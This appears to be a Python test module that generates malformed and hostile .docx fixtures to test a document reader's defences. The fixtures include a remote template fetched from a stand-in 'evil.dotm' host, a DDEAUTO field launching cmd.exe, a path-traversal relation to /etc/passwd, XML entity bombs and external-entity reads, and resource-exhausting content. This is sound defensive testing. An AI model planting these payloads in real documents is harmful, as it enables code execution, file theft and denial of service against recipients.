"""Documents that nest without end, refer to elsewhere, or do not keep to the format."""

import base64
import io

import docx

from tests.exchange.files import part_of, saved, word
from tests.exchange.reading.hostile.kinds import DOCUMENT, ROWS, Kind, edited, paper, text
from tests.exchange.reading.hostile.workbooks import BOMB, OUTSIDE

DAMAGED, INSTRUCTIONS = "damaged or incomplete", "instructions"
SETTINGS = "word/_rels/settings.xml.rels"
RELATIONS = "word/_rels/document.xml.rels"
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://example.invalid/evil.dotm" TargetMode="External"/></Relationships>'
)
FIELD = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
CHUNK = b'<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/>'
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
STYLES = b'Target="styles.xml"'
PICTURE = b"<w:p><w:r><w:pict/></w:r></w:p>"


def nested(depth):
    """Tables within tables, each the only content of the cell above."""
    start, end = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    return lambda: text((b"<w:tbl>", start * depth + end * depth + b"<w:tbl>"))


def declared(declaration):
    return lambda: edited(word(ROWS), DOCUMENT, (b"<w:document", declaration + b"<w:document"))


def before_table(more):
    return lambda: text((b"<w:tbl>", more + b"<w:tbl>"))


def without_table():
    document = docx.Document()
    document.add_picture(io.BytesIO(PNG))
    return saved(document)


def long_table():
    row = part_of(word(ROWS), DOCUMENT)
    start, end = row.index(b"<w:tr"), row.rindex(b"</w:tr>") + 7
    body = row[row.index(b"<w:tr", start + 1) : end]
    return edited(word(ROWS), DOCUMENT, (b"</w:tbl>", body * 31_000 + b"</w:tbl>"))


KINDS = [
    Kind("tables five hundred deep", "plan.docx", nested(500), DAMAGED),
    Kind("tables twenty deep", "plan.docx", nested(20), table=None),
    Kind("a billion laughs in a document", "plan.docx", declared(BOMB), INSTRUCTIONS),
    Kind("an entity that reads a file, in a document", "plan.docx", declared(OUTSIDE), INSTRUCTIONS),
    Kind("a template on the web", "plan.docx", lambda: paper({SETTINGS: TEMPLATE})),
    Kind("a field that calls a program", "plan.docx", before_table(FIELD)),
    Kind("a web page within", "plan.docx", before_table(CHUNK)),
    Kind(
        "an embedded object in a document", "plan.docx", lambda: paper({"word/embeddings/oleObject1.bin": b"x" * 999})
    ),
    Kind(
        "a cell over a million columns",
        "plan.docx",
        lambda: text((b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="1000000"/>')),
        table=None,
    ),
    Kind(
        "a cell over no columns",
        "plan.docx",
        lambda: text((b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="0"/>')),
        table=None,
    ),
    Kind(
        "a cell over columns that are no number",
        "plan.docx",
        lambda: text((b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="x"/>')),
        table=None,
    ),
    Kind(
        "a merge that goes on from nothing",
        "plan.docx",
        lambda: text((b"<w:tcPr>", b"<w:tcPr><w:vMerge/>")),
        table=None,
    ),
    Kind(
        "a table without columns",
        "plan.docx",
        lambda: text((b"<w:tblGrid>", b"<w:x>"), (b"</w:tblGrid>", b"</w:x>")),
        table=None,
    ),
    Kind("a document without a body", "plan.docx", lambda: paper({DOCUMENT: b"<x/>"}), DAMAGED),
    Kind(
        "a document that breaks off",
        "plan.docx",
        lambda: paper({DOCUMENT: part_of(word(ROWS), DOCUMENT)[:-200]}),
        DAMAGED,
    ),
    Kind("a document without relations", "plan.docx", lambda: paper({"_rels/.rels": None}), DAMAGED),
    Kind(
        "a relation to a file of the machine",
        "plan.docx",
        lambda: edited(word(ROWS), RELATIONS, (STYLES, b'Target="../../../etc/passwd"')),
        DAMAGED,
    ),
    Kind("a hundred thousand paragraphs", "plan.docx", before_table(b"<w:p/>" * 100_000)),
    Kind(
        "one paragraph of megabytes",
        "plan.docx",
        before_table(b"<w:p><w:r><w:t>" + b"x" * 2_000_000 + b"</w:t></w:r></w:p>"),
        "far more text",
    ),
    Kind("a table of thirty thousand rows", "plan.docx", long_table, "unpacks"),
    Kind("pictures and no table", "plan.docx", without_table, table=()),
    Kind("a picture in the old way", "plan.docx", before_table(PICTURE)),
]
